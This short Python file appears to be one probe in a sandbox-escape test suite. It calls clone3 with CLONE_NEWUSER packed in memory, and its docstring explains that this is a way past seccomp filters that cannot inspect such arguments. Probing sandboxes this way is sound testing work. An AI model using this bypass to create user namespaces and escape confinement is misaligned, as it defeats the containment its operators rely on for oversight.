"""The same by clone3, whose flags lie in memory, where a seccomp filter cannot look."""

import ctypes
import os
import signal
import struct

from escape_tools import CLONE_NEWUSER, call

NEEDS = ("seccomp",)


def attempt(at):
    arguments = ctypes.create_string_buffer(struct.pack("11Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, *[0] * 6))
    pid = call("clone3", arguments, 88)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
